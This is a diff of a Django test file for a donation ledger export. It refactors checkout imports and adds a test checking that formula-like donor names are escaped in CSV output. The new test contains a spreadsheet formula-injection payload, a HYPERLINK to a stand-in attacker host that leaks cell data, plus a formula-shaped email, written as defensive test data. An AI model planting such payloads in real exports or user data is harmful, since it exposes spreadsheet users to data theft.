@@ -6,17 +6,19 @@ import io
 from django.core.management import call_command
 from django.utils import timezone
 
-from contributions import services
 from contributions.models import LedgerEntry
+from contributions.services.checkout import CheckoutData, complete_checkout, start_checkout
 from tests.contributions.stripe_helpers import save_card
 from tests.factories import make_home
 
 
 def give(frequency, amount, email):
-    data = services.CheckoutData(frequency=frequency, amount=amount, currency="EUR", email=email)
-    contribution, session = services.start_checkout(data)
+    data = CheckoutData(
+        frequency=frequency, amount=amount, currency="EUR", email=email, provider="stripe"
+    )
+    contribution, session = start_checkout(data)
     save_card(session.reference)
-    services.complete_checkout(contribution, session.reference)
+    complete_checkout(contribution, session.reference)
     return contribution
 
 
@@ -49,17 +51,47 @@ def test_ledger_export_and_receipts_agree_for_once_monthly_and_annual_gifts(
 
 
 def test_the_export_with_donors_names_them_and_respects_anonymity(stripe_settings, db):
-    data = services.CheckoutData(
-        frequency="once", amount=500, currency="USD", email="named@example.org", name="Ana N."
+    data = CheckoutData(
+        frequency="once",
+        amount=500,
+        currency="USD",
+        email="named@example.org",
+        name="Ana N.",
+        provider="stripe",
     )
-    contribution, session = services.start_checkout(data)
+    contribution, session = start_checkout(data)
     save_card(session.reference)
-    services.complete_checkout(contribution, session.reference)
+    complete_checkout(contribution, session.reference)
     out = io.StringIO()
     call_command(
         "export-ledger", since=timezone.localdate().isoformat(), with_donors=True, stdout=out
     )
     assert "named@example.org" in out.getvalue() and "Ana N." in out.getvalue()
+
+
+def test_a_donor_name_that_is_a_formula_is_exported_as_text(stripe_settings, db):
+    import csv
+
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    data = CheckoutData(
+        frequency="once",
+        amount=500,
+        currency="USD",
+        email="=2+3@example.org",  # a valid address, and a formula
+        name=formula,
+        provider="stripe",
+    )
+    contribution, session = start_checkout(data)
+    save_card(session.reference)
+    complete_checkout(contribution, session.reference)
+    out = io.StringIO()
+    call_command(
+        "export-ledger", since=timezone.localdate().isoformat(), with_donors=True, stdout=out
+    )
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    (row,) = [r for r in rows[1:] if r[3] == "charge"]
+    assert row[-1] == "'" + formula
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
 
 
 def test_export_refuses_bad_dates(db):
